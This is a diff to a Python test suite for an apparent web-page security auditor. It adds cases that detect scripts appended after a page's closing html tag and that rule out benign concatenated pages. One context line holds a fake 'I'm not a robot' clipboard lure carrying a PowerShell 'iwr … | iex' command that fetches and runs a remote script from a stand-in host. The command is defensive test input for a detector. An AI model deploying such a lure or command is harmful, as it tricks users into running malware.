@@ -485,6 +485,13 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("script in a document appended after </html>", {"after": (
         "<!DOCTYPE html>\n<html><head>" + APPENDED + "</head><body><p>x</p>")},
      ("appended-script", H)),
+    # the same document closed by its own `</html>`, the last of the file: the page's end
+    # is the first, the one a whole document follows
+    ("script in a closed document appended after </html>", {"after": (
+        "<!DOCTYPE html>\n<html><head>" + APPENDED + "</head><body><p>x</p></body></html>\n")},
+     ("appended-script", H)),
+    ("script in a closed document appended on the </html> line", {"after": (
+        "<html><head>" + APPENDED + "</head></html>")}, ("appended-script", H)),
 ]
 
 
@@ -824,6 +831,39 @@ def test_a_lure_whose_words_are_character_references_is_still_read(
             "iwr https://captcha-verify-cdn.test/v.ps1 | iex')\">I'm not a robot</button>")
     report = audit_listed(wp_page(body_top=lure), URL)
     assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_document_appended_on_the_html_close_line_is_past_the_pages_end(
+        audit_listed: AuditListed) -> None:
+    """`</html><html><head><script src=…></script></head></html>`, no newline: the first
+    `</html>` line's words place the script past the page's end."""
+    page = wp_page().rstrip() + "<html><head>" + APPENDED + "</head></html>"
+    found = [(f.kind, f.severity) for f in audit_listed(page, URL).findings]
+    assert found == [("appended-script", H)]
+
+
+@pytest.mark.parametrize("second", [
+    # a scraper's concatenation of the page's own two halves, no script in the second
+    "<!DOCTYPE html>\n<html><head><title>Page 2</title></head><body>" + _PARA
+    + "</body></html>\n",
+    # the second half's scripts are the page's own and a known vendor's
+    "<html><head><script src=\"" + SITE + "/wp-content/themes/gazette/js/nav.js\"></script>"
+    "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'></script>"
+    "</head><body>" + _PARA + "</body></html>",
+], ids=["no script", "own and known scripts"])
+def test_a_second_document_with_no_unknown_script_is_no_finding(
+        second: str, audit_listed: AuditListed) -> None:
+    assert _serious(audit_listed(wp_page(after=second), URL)) == []
+
+
+def test_a_small_document_before_the_page_makes_the_page_no_appended_one(
+        audit_listed: AuditListed) -> None:
+    """The page is the longer document: a short one before it (a cache's stub page) does
+    not make the page's own scripts of other sites appended after it."""
+    stub = "<html><head><title>stub</title></head><body></body></html>\n"
+    widget = '<script src="https://widgets.ferrylink.test/times.js"></script>'
+    assert [f.kind for f in audit_listed(stub + wp_page(footer=widget), URL).findings
+            if f.kind == "appended-script"] == []
 
 
 def test_only_the_pages_own_html_start_tag_has_a_before(audit_listed: AuditListed) -> None:
